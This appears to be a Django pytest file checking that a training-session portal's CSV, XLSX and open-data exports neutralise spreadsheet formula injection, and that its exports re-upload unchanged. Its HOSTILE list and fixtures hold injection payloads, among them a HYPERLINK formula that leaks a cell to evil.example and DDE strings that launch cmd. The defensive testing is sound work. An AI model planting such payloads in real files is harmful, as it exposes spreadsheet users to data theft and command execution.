"""Formula injection: no CSV or XLSX the portal writes holds a live formula, and the organisation's own sessions
file still uploads back unchanged. Every export is walked: organisation (sessions and template, CSV and XLSX),
Region dashboard tables (CSV and XLSX) and open data (CSV)."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.groups import ADMINISTRATOR, ensure_region_groups
from core.spreadsheets import FORMULA_STARTS, Sheet, cell_restored, cell_safe, csv_bytes, xlsx_bytes
from exchange.open_data_files import publish
from region.dashboard import Filters, region_dashboard
from sessions.models import TrainingSession
from tests.accounts.factories import UserFactory
from tests.catalogue.factories import ActionFactory, ActionLabelFactory, FormationFactory, TrainingPlaceFactory
from tests.exchange.uploads import confirm_upload, upload_and_check
from tests.sessions.factories import TrainingSessionFactory

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A2,"Cliquez ici")'
HOSTILE = [
    HOSTILE_TITLE,
    "+33 rue du Piège",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        *[(text, "'" + text) for text in HOSTILE],
        ("Développeur web", "Développeur web"),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
        (-5, -5),  # numbers stay numbers: they cannot be formulas
        (2.5, 2.5),
    ],
)
def test_cell_safe(value, written):
    assert cell_safe(value) == written
    if isinstance(value, str):
        assert cell_restored(cell_safe(value)) == value


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def live_cells_csv(data: bytes) -> list[str]:
    """Cells a spreadsheet program would run as a formula (a negative number is a number, not a formula)."""
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";")
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and not is_number(cell)]


def live_cells_xlsx(data: bytes) -> list[str]:
    """Formulas in the sheets' XML, text cells that start like one, and cells a reader takes for formulas."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and (b"<f>" in archive.read(name) or b"<f " in archive.read(name)):
                found.append(name)
    workbook = load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)):
                    found.append(f"{sheet.title}!{cell.coordinate}")
    return found


def test_the_writers_neutralise_every_hostile_text():
    rows = [["titre"], *[[text] for text in HOSTILE], [-5]]
    assert live_cells_csv(csv_bytes(rows)) == []
    data = xlsx_bytes([Sheet("Feuille", rows)])
    assert live_cells_xlsx(data) == []
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert [row[0].value for row in sheet.iter_rows()][1:] == [*["'" + text for text in HOSTILE], -5]


@pytest.fixture
def hostile_catalogue(organism_a):
    organism_a.usual_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    organism_a.save()
    action = ActionFactory(formation=FormationFactory(organism=organism_a, title=HOSTILE_TITLE))
    place = TrainingPlaceFactory(action=action, street="+33 rue du Piège")
    TrainingSessionFactory(action=action, is_remote=False, place=place)
    TrainingSessionFactory(action=action, is_remote=True, place=None)
    ActionLabelFactory(action=action, granted=True)
    return action


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["sessions", "modele"])
def test_organisation_exports_hold_no_formula_and_upload_back_unchanged(client, member_a, hostile_catalogue, kind):
    client.force_login(member_a)
    csv_data = client.get(reverse("backoffice:sessions_spreadsheet", args=[kind, "csv"])).content
    xlsx_data = client.get(reverse("backoffice:sessions_spreadsheet", args=[kind, "xlsx"])).content
    assert live_cells_csv(csv_data) == []
    assert live_cells_xlsx(xlsx_data) == []
    if kind == "modele":
        return
    rows = list(csv.reader(io.StringIO(csv_data.decode("utf-8-sig")), delimiter=";"))
    assert {row[2] for row in rows[1:]} == {"'" + HOSTILE_TITLE}  # shown as typed, apostrophe first
    before = list(TrainingSession.objects.order_by("pk").values())
    for name, data in (("sessions.csv", csv_data), ("sessions.xlsx", xlsx_data)):
        html = upload_and_check(client, {"fichier": io.BytesIO(data) | _named(name)})
        assert "0 session à créer, 0 à modifier, 2 inchangées" in html.content.decode(), name
        confirm_upload(client)
    assert list(TrainingSession.objects.order_by("pk").values()) == before


def _named(name):
    """`io.BytesIO(...) | _named(name)`: an in-memory upload with a file name, as the test client sends it."""

    class Named:
        def __ror__(self, stream):
            stream.name = name
            return stream

    return Named()


@pytest.mark.django_db
def test_region_exports_hold_no_formula(client, hostile_catalogue):
    user = UserFactory(region_agent=True, email="agent@region.example.org")
    user.groups.add(ensure_region_groups()[ADMINISTRATOR])
    client.force_login(user)
    tables = region_dashboard(Filters(), now=timezone.now(), today=timezone.localdate())
    hostile_seen = False
    for table in tables:
        csv_data = client.get(reverse("region:export", args=[table.slug, "csv"])).content
        xlsx_data = client.get(reverse("region:export", args=[table.slug, "xlsx"])).content
        assert live_cells_csv(csv_data) == [], table.slug
        assert live_cells_xlsx(xlsx_data) == [], table.slug
        hostile_seen = hostile_seen or "'@SUM(1+1)" in csv_data.decode("utf-8-sig")
    assert hostile_seen  # the organisation's name is in a table, neutralised


@pytest.mark.django_db
def test_open_data_csv_holds_no_formula_and_json_keeps_the_text(client, hostile_catalogue):
    publish()
    csv_data = b"".join(client.get(reverse("open_data_file", args=["csv"])).streaming_content)
    assert live_cells_csv(csv_data) == []
    rows = list(csv.DictReader(io.StringIO(csv_data.decode("utf-8-sig")), delimiter=";"))
    assert {row["intitule"] for row in rows} == {"'" + HOSTILE_TITLE}
    assert {row["organisme"] for row in rows} == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
    json_data = b"".join(client.get(reverse("open_data_file", args=["json"])).streaming_content).decode()
    assert '"intitule": "=HYPERLINK' in json_data  # JSON is data, not a spreadsheet: the text as typed
